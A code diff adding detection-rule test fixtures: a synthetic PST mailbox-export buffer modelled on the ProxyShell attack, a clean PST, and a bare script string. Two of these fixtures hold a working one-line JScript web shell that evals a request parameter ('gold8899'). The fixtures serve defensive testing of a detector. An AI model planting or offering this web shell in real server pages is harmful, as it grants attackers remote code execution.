@@ -116,3 +116,24 @@ rule Broken_Bad {
     $b
 }
 `;
+
+/** A PST header as [MS-PST] lays it out: "!BDN", CRC, client magic "SM", Unicode version 23. */
+function pstHeader(): Buffer {
+  const h = Buffer.alloc(512);
+  h.write('!BDN', 0, 'latin1');
+  h.write('SM', 8, 'latin1');
+  h.writeUInt16LE(23, 10);
+  h.writeUInt16LE(19, 12);
+  return h;
+}
+/** Filler standing in for PST pages (deterministic, no '<' so no tag can form by chance). */
+const pstPages = (n: number, seed: number): Buffer => Buffer.from(Array.from({ length: n }, (_, i) => ((i * 131 + seed * 17) % 250) + (((i * 131 + seed * 17) % 250) >= 60 ? 2 : 0)));
+
+/** What ProxyShell's mailbox export leaves at the -FilePath it chose: a PST whose draft mail holds the script in clear. */
+export const PST_EXPORT_SHELL = Buffer.concat([pstHeader(), pstPages(3000, 1),
+  Buffer.from('<script language="JScript" runat="server">function Page_Load(){var k=Request["gold8899"];if(k){eval(k);}}</script>', 'latin1'),
+  pstPages(2000, 2)]);
+/** An ordinary mailbox export: the same header, no script. */
+export const PST_PLAIN = Buffer.concat([pstHeader(), pstPages(5000, 3)]);
+/** The script without the PST header (a plain page): not this rule's business. */
+export const SCRIPT_NO_PST = '<script language="JScript" runat="server">function Page_Load(){var k=Request["gold8899"];if(k){eval(k);}}</script>';
